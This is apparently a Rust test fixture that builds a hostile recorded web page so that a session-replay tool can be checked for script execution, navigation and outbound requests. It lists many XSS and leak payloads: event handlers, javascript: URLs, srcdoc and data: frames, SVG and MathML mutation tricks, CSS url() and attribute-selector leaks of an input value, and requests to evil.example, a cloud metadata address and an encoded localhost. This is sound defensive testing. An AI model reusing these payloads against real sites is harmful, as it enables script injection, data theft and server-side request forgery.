//! A recording that tries to run script, to navigate and to call out: `tests/browser/hostile.revisit`. Its numbers are those of
//! the bad inputs; what runs says its number to `top.ran`, what loads asks `evil.example` for it.

use revisit_wire::{
    NodeId, Op, Str, TimedOp,
    event::{
        Attribute, AttributeName, Focus, Insert, Namespace, Node, NodeKind, Press, PressKind,
        Quirks, ShadowMode, Sheet, SheetRule, SheetRuleChange, Snapshot, Text, Value,
    },
};

const XLINK: &str = "http://www.w3.org/1999/xlink";

/// A document that grows node by node and remembers ids.
#[derive(Default)]
struct Tree {
    nodes: Vec<Node>,
}

impl Tree {
    fn add(&mut self, depth: u32, kind: NodeKind) -> NodeId {
        self.nodes.push(Node { depth, kind });
        NodeId(self.nodes.len() as u32)
    }

    fn element(&mut self, depth: u32, tag: &str, attributes: &[(&str, &str)]) -> NodeId {
        self.add(depth, element(tag, attributes))
    }

    fn text(&mut self, depth: u32, text: &str) -> NodeId {
        self.add(depth, NodeKind::Text(text.into()))
    }
}

pub(crate) fn ops() -> Vec<TimedOp> {
    let mut tree = Tree::default();
    tree.add(
        0,
        NodeKind::Document {
            quirks: Quirks::Standards,
            url: "http://evil.example/page".into(),
        },
    );
    tree.add(
        1,
        NodeKind::ProcessingInstruction {
            target: "xml-stylesheet".into(),
            data: "href='http://evil.example/56-pi.css'".into(),
        },
    );
    tree.element(
        1,
        "html",
        &[
            ("manifest", "http://evil.example/64-manifest"),
            ("onclick", "top.ran.push(44)"),
        ],
    );
    let (style, script) = head(&mut tree);
    let body = tree.element(
        2,
        "body",
        &[
            ("background", "http://evil.example/64-background"),
            ("onload", "top.ran.push(44)"),
            ("style", "background: url(http://evil.example/62-attribute)"),
        ],
    );
    let (image, link) = elements(&mut tree);
    drawings(&mut tree);
    frames(&mut tree);
    forms(&mut tree);
    trees(&mut tree);
    let field = tree.element(3, "input", &[("id", "field"), ("type", "text")]);
    let first = TimedOp {
        at: 0,
        op: Op::Snapshot(Snapshot { nodes: tree.nodes }),
    };
    std::iter::once(first)
        .chain(later(body, style, script, image, link, field))
        .collect()
}

fn head(tree: &mut Tree) -> (NodeId, NodeId) {
    tree.element(2, "head", &[]);
    tree.element(
        3,
        "meta",
        &[
            ("http-equiv", "refresh"),
            ("content", "0;url=http://evil.example/53-refresh"),
        ],
    );
    tree.element(
        3,
        "meta",
        &[
            ("http-equiv", "Content-Security-Policy"),
            ("content", "script-src *"),
        ],
    );
    tree.element(3, "base", &[("href", "http://evil.example/54-base/")]);
    for rel in [
        "stylesheet",
        "preload",
        "prefetch",
        "dns-prefetch",
        "preconnect",
        "modulepreload",
        "icon",
        "manifest",
        "prerender",
        "import",
    ] {
        tree.element(
            3,
            "link",
            &[
                ("rel", rel),
                ("as", "script"),
                ("href", "http://evil.example/64-link"),
            ],
        );
    }
    tree.element(3, "script", &[]);
    let script = tree.text(4, "top.ran.push(43)");
    for kind in [
        "module",
        "importmap",
        "speculationrules",
        "text/javascript",
        "",
    ] {
        tree.element(
            3,
            "script",
            &[("type", kind), ("src", "http://evil.example/43-script.js")],
        );
        tree.text(
            4,
            r#"{"prefetch":[{"urls":["http://evil.example/43-rules"]}]}"#,
        );
    }
    tree.element(3, "style", &[]);
    let style = tree.text(
        4,
        "@import 'http://evil.example/62-import.css'; @im\\70ort url(http://evil.example/62-escaped.css);
         @font-face { font-family: evil; src: url(http://evil.example/62-font.woff2) }
         * { font-family: evil; cursor: url(http://evil.example/62-cursor), auto }
         body::before { content: u\\72l(http://evil.example/62-content) }
         html { background: image-set('http://evil.example/62-set' 1x); mask: url(http://evil.example/62-mask#m) }
         input[value^='s'] { background: url(http://evil.example/63-selector) }
         :root { --later: url(http://evil.example/62-property) } p { background: var(--later) }",
    );
    (style, script)
}

fn elements(tree: &mut Tree) -> (NodeId, NodeId) {
    let image = tree.element(
        3,
        "img",
        &[
            ("src", "http://evil.example/44-src"),
            ("srcset", "http://evil.example/64-srcset 1x"),
            ("onerror", "top.ran.push(44)"),
            ("onload", "top.ran.push(44)"),
            ("attributionsrc", "http://evil.example/64-attribution"),
        ],
    );
    tree.element(3, "picture", &[]);
    tree.element(4, "source", &[("srcset", "http://evil.example/64-source")]);
    tree.element(4, "img", &[]);
    tree.element(
        3,
        "video",
        &[
            ("src", "http://evil.example/64-video"),
            ("poster", "http://evil.example/64-poster"),
            ("autoplay", ""),
        ],
    );
    tree.element(4, "source", &[("src", "http://evil.example/64-media")]);
    tree.element(
        4,
        "track",
        &[("src", "http://evil.example/64-track"), ("default", "")],
    );
    tree.element(
        3,
        "audio",
        &[("src", "http://evil.example/64-audio"), ("autoplay", "")],
    );
    for url in [
        "java\tscript:top.ran.push(50)",
        " javascript:top.ran.push(50)",
        "http://evil.example/50-link",
    ] {
        tree.element(
            3,
            "a",
            &[
                ("href", url),
                ("ping", "http://evil.example/64-ping"),
                ("target", "_top"),
            ],
        );
        tree.text(4, "link");
    }
    let link = tree.element(3, "a", &[("id", "later")]);
    tree.element(3, "img", &[("src", "http://169.254.169.254/65")]);
    tree.element(3, "img", &[("src", "http://2130706433/65")]);
    tree.element(3, "img", &[(
        "src",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran.push(66)'><image href='http://evil.example/66'/><script>top.ran.push(66)</script></svg>",
    )]);
    for (tag, name) in [
        ("object", "data"),
        ("embed", "src"),
        ("portal", "src"),
        ("fencedframe", "src"),
        ("applet", "code"),
    ] {
        tree.element(
            3,
            tag,
            &[
                (name, "http://evil.example/55-embed"),
                ("type", "text/html"),
            ],
        );
    }
    tree.element(
        3,
        "button",
        &[("is", "evil-button"), ("onclick", "top.ran.push(58)")],
    );
    tree.element(
        3,
        "evil-element",
        &[
            ("onfocus", "top.ran.push(58)"),
            ("tabindex", "0"),
            ("autofocus", ""),
        ],
    );
    (image, link)
}

#[expect(clippy::too_many_lines, reason = "a list")]
fn drawings(tree: &mut Tree) {
    let svg = |tag: &str, pairs: &[(&str, &str)]| NodeKind::Element {
        namespace: Namespace::Svg,
        tag: tag.into(),
        attributes: attributes(pairs),
        blocked: None,
    };
    tree.add(
        3,
        svg(
            "svg",
            &[
                ("onload", "top.ran.push(45)"),
                ("xml:base", "http://evil.example/54-xml/"),
            ],
        ),
    );
    tree.add(
        4,
        svg("script", &[("href", "http://evil.example/46-script.js")]),
    );
    tree.text(5, "top.ran.push(46)");
    tree.add(4, svg("use", &[("href", "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='top.ran.push(47)'/>#x")]));
    tree.add(
        4,
        svg("use", &[("xlink:href", "http://evil.example/47-use.svg#x")]),
    );
    tree.add(
        4,
        svg(
            "image",
            &[
                ("href", "http://evil.example/64-image"),
                ("onerror", "top.ran.push(45)"),
            ],
        ),
    );
    tree.add(
        4,
        svg(
            "rect",
            &[
                ("fill", "url(http://evil.example/62-fill#x)"),
                ("filter", "url(http://evil.example/62-filter#x)"),
                ("width", "9"),
                ("height", "9"),
            ],
        ),
    );
    tree.add(4, svg("a", &[("xlink:href", "#")]));
    tree.add(
        5,
        svg(
            "set",
            &[
                ("attributeName", "href"),
                ("to", "javascript:top.ran.push(49)"),
                ("begin", "0s"),
            ],
        ),
    );
    tree.add(
        5,
        svg(
            "animate",
            &[
                ("attributeName", "fill"),
                ("values", "url(http://evil.example/62-values);red"),
                ("onbegin", "top.ran.push(49)"),
            ],
        ),
    );
    tree.add(4, svg("foreignObject", &[]));
    tree.element(
        5,
        "iframe",
        &[("srcdoc", "<script>top.ran.push(48)</script>")],
    );
    tree.element(
        5,
        "img",
        &[
            ("src", "http://evil.example/48-img"),
            ("onerror", "top.ran.push(48)"),
        ],
    );
    let math = |tag: &str, pairs: &[(&str, &str)]| NodeKind::Element {
        namespace: Namespace::MathMl,
        tag: tag.into(),
        attributes: attributes(pairs),
        blocked: None,
    };
    tree.add(3, math("math", &[("href", "javascript:top.ran.push(56)")]));
    tree.add(4, math("annotation-xml", &[("encoding", "text/html")]));
    tree.element(5, "style", &[]);
    tree.text(
        6,
        "<img src=http://evil.example/56-mxss onerror=top.ran.push(56)>",
    );
    tree.add(
        3,
        NodeKind::Element {
            namespace: Namespace::Html,
            tag: "x:script".into(),
            attributes: Vec::new(),
            blocked: None,
        },
    );
    tree.text(4, "top.ran.push(56)");
}

fn frames(tree: &mut Tree) {
    for (name, value) in [
        (
            "srcdoc",
            "<script>top.ran.push(51)</script><img src=http://evil.example/51>",
        ),
        ("src", "data:text/html,<script>top.ran.push(52)</script>"),
        ("src", "javascript:top.ran.push(52)"),
        ("src", "http://evil.example/52-frame"),
    ] {
        tree.element(
            3,
            "iframe",
            &[
                (name, value),
                ("onload", "top.ran.push(52)"),
                ("sandbox", "allow-scripts allow-top-navigation"),
            ],
        );
    }
    tree.element(3, "iframe", &[("src", "http://evil.example/52-inner")]);
    tree.add(
        4,
        NodeKind::Document {
            quirks: Quirks::Quirks,
            url: "http://evil.example/inner".into(),
        },
    );
    tree.element(5, "html", &[]);
    tree.element(6, "body", &[]);
    tree.element(7, "script", &[]);
    tree.text(8, "top.ran.push(51)");
    tree.element(
        7,
        "img",
        &[
            ("src", "http://evil.example/51-img"),
            ("onerror", "top.ran.push(51)"),
        ],
    );
    tree.element(7, "style", &[]);
    tree.text(8, "body { background: url(http://evil.example/51-style) }");
}

fn forms(tree: &mut Tree) {
    tree.element(
        3,
        "form",
        &[
            ("action", "javascript:top.ran.push(61)"),
            ("onsubmit", "top.ran.push(61)"),
        ],
    );
    tree.element(
        4,
        "input",
        &[
            ("autofocus", ""),
            ("onfocus", "top.ran.push(61)"),
            ("value", "secret"),
        ],
    );
    tree.element(
        4,
        "input",
        &[
            ("type", "image"),
            ("src", "http://evil.example/61-image"),
            ("formaction", "javascript:top.ran.push(61)"),
        ],
    );
    tree.element(
        4,
        "button",
        &[("formaction", "http://evil.example/61-submit")],
    );
}

fn trees(tree: &mut Tree) {
    tree.element(3, "template", &[("shadowrootmode", "open")]);
    tree.add(4, NodeKind::TemplateContent);
    tree.element(
        5,
        "img",
        &[
            ("src", "http://evil.example/57"),
            ("onerror", "top.ran.push(57)"),
        ],
    );
    tree.element(5, "script", &[]);
    tree.text(6, "top.ran.push(57)");
    tree.element(3, "div", &[]);
    tree.add(
        4,
        NodeKind::ShadowRoot {
            mode: ShadowMode::Closed,
            delegates_focus: false,
            manual_slots: false,
        },
    );
    tree.element(5, "style", &[]);
    tree.text(6, ":host { background: url(http://evil.example/57-host) }");
    tree.element(5, "script", &[]);
    tree.text(6, "top.ran.push(57)");
    tree.element(3, "noscript", &[("style", "display: block !important")]);
    tree.element(4, "img", &[("src", "http://evil.example/64-noscript")]);
}

/// What comes after the page was harmless.
fn later(
    body: NodeId,
    style: NodeId,
    script: NodeId,
    image: NodeId,
    link: NodeId,
    field: NodeId,
) -> Vec<TimedOp> {
    let set = |id, name: &str, value: &str| {
        Op::Attribute(Attribute {
            id,
            name: name_of(name),
            value: Some(value.into()),
        })
    };
    let rule = |index, text: &str| {
        Op::SheetRule(SheetRule {
            id: NodeId(style.0 - 1),
            index,
            change: SheetRuleChange::Insert(text.into()),
        })
    };
    let sheet = |id: NodeId, rules: &[&str]| {
        Op::Sheet(Sheet {
            id,
            base: "http://evil.example/".into(),
            rules: rules.iter().map(|&rule| rule.into()).collect(),
            disabled: false,
            media: "".into(),
        })
    };
    let nodes = vec![
        Node {
            depth: 0,
            kind: element("script", &[("src", "http://evil.example/59-late.js")]),
        },
        Node {
            depth: 1,
            kind: NodeKind::Text("top.ran.push(59)".into()),
        },
    ];
    let press = Press {
        kind: PressKind::Click,
        pointer: 0,
        target: Some(link),
        x: 5,
        y: 5,
        button: 0,
    };
    [
        (100, set(image, "onerror", "top.ran.push(59)")),
        (100, set(image, "src", "http://evil.example/59-image")),
        (110, set(body, "onpointermove", "top.ran.push(59)")),
        (120, set(link, "href", "javascript:top.ran.push(59)")),
        (
            130,
            Op::Text(Text {
                id: script,
                text: "top.ran.push(60)".into(),
            }),
        ),
        (
            140,
            Op::Text(Text {
                id: style,
                text: "body { background: url('http://evil.example/60-style') }".into(),
            }),
        ),
        (
            150,
            rule(0, "html { background: url(http://evil.example/60-rule) }"),
        ),
        // The eighth node is the link to a style sheet.
        (
            160,
            sheet(
                NodeId(8),
                &[
                    "@import 'http://evil.example/62-linked.css';",
                    "a { background: url(62-relative) }",
                ],
            ),
        ),
        (
            170,
            Op::Insert(Insert {
                parent: body,
                before: None,
                nodes,
            }),
        ),
        (
            180,
            Op::Value(Value {
                id: field,
                value: "secret".into(),
            }),
        ),
        (190, Op::Focus(Focus { id: Some(field) })),
        (200, Op::Press(press)),
    ]
    .map(|(at, op)| TimedOp { at, op })
    .into()
}

fn element(tag: &str, pairs: &[(&str, &str)]) -> NodeKind {
    NodeKind::Element {
        namespace: Namespace::Html,
        tag: tag.into(),
        attributes: attributes(pairs),
        blocked: None,
    }
}

fn attributes(pairs: &[(&str, &str)]) -> Vec<(AttributeName, Str)> {
    pairs
        .iter()
        .map(|(key, value)| (name_of(key), (*value).into()))
        .collect()
}

fn name_of(name: &str) -> AttributeName {
    let namespace = name.starts_with("xlink:").then(|| XLINK.into());
    AttributeName {
        namespace,
        name: name.into(),
    }
}
